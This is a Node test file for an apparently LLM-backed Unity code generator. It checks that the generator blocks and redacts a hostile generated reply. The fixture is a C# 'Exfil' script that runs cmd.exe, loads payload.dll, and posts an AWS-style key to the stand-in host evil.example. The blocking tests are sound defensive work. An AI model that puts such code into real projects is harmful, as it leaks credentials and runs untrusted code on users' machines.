// The output policy from Node: a reply with blocking security findings comes back `blocked`
// with its findings and no files, export rejects it with `output_blocked` unless told
// `allowUnsafe`, and the AWS key never reaches the result or the archive.
import { test, describe, before, after } from 'node:test'
import assert from 'node:assert/strict'

import { spark, startOpenAiMock, mockConfig, readZip, PLAYER_REPLY } from './helpers.mjs'

const { Spark, errorCodes } = spark

const AWS_KEY = 'AKIAQ7ZD3KX9PLMN4RTB'
const HOSTILE = [
  '### Exfil.cs',
  '```csharp',
  'using System.Collections;',
  'using System.Diagnostics;',
  'using System.IO;',
  'using System.Reflection;',
  'using System.Runtime.Serialization.Formatters.Binary;',
  'using UnityEngine;',
  'using UnityEngine.Networking;',
  '',
  'public class Exfil : MonoBehaviour',
  '{',
  `    private const string AwsKey = "${AWS_KEY}";`,
  '',
  '    private void Start()',
  '    {',
  '        Process.Start("cmd.exe", "/c whoami");',
  '        var formatter = new BinaryFormatter();',
  '        var plugin = Assembly.Load(File.ReadAllBytes("payload.dll"));',
  '        StartCoroutine(Upload());',
  '    }',
  '',
  '    private IEnumerator Upload()',
  '    {',
  '        var form = new WWWForm();',
  '        form.AddField("key", AwsKey);',
  '        using (var req = UnityWebRequest.Post("http://evil.example/upload", form))',
  '        {',
  '            yield return req.SendWebRequest();',
  '        }',
  '    }',
  '}',
  '```',
  '',
].join('\n')
const BLOCKING = ['SPK2001', 'SPK2002', 'SPK2003', 'SPK2006', 'SPK2009']

function zipText(buf) {
  return [...readZip(buf).values()].map((b) => b.toString('utf8')).join('\n')
}

describe('output policy', () => {
  let mock
  let reply = HOSTILE
  before(async () => { mock = await startOpenAiMock(() => ({ text: reply })) })
  after(() => mock.close())
  const client = () => new Spark(mockConfig(mock, { repair: { max_rounds: 0 }, retry: { max_attempts: 1 } }))

  test('a hostile reply is blocked with its findings; export rejects with output_blocked', async () => {
    reply = HOSTILE
    const s = client()
    const result = await s.generate('an uploader', { noCache: true })
    assert.ok(result.blocked, 'blocked')
    assert.deepEqual(result.blocked.rules, BLOCKING)
    assert.deepEqual([...new Set(result.blocked.findings.map((d) => d.rule))].sort(), BLOCKING)
    assert.deepEqual(result.files, [])
    assert.deepEqual(result.blocked.withheldFiles.map((f) => f.path), ['Exfil.cs'])
    assert.ok(!JSON.stringify(result).includes(AWS_KEY), 'the key is redacted everywhere')
    for (const format of ['zip', 'upm', 'unitypackage']) {
      let caught
      await assert.rejects(s.export(result, format), (e) => { caught = e; return true })
      assert.equal(caught.code, 'output_blocked', caught.message)
      assert.equal(caught.codeNumber, errorCodes().output_blocked)
      assert.equal(caught.codeNumber, 27)
      assert.deepEqual(caught.rules, BLOCKING)
      assert.throws(() => s.exportSync(result, format), (e) => e.code === 'output_blocked')
    }
    assert.throws(() => s.exportSync(result, 'zip', { allowUnsave: true }), TypeError)
    const text = zipText(await s.export(result, 'zip', { allowUnsafe: true }))
    assert.match(text, /Process\.Start/)
    assert.ok(!text.includes(AWS_KEY))
  })

  test('allowUnsafe unblocks, but the key is redacted in the result and the ZIP', async () => {
    reply = HOSTILE
    const s = client()
    const result = await s.generate('an uploader', { noCache: true, allowUnsafe: true })
    assert.equal(result.blocked, null)
    assert.equal(result.files.length, 1)
    assert.match(result.files[0].content, /private const string AwsKey = "REDACTED";/)
    assert.ok(result.diagnostics.some((d) => d.rule === 'SPK2019'))
    const text = zipText(s.exportSync(result, 'zip'))
    assert.match(text, /"REDACTED"/)
    assert.ok(!text.includes(AWS_KEY))
  })

  test('a clean reply is not blocked', async () => {
    reply = PLAYER_REPLY
    const result = await client().generate('a player', { noCache: true })
    assert.equal(result.blocked, null)
    assert.equal(result.files.length, 1)
  })
})
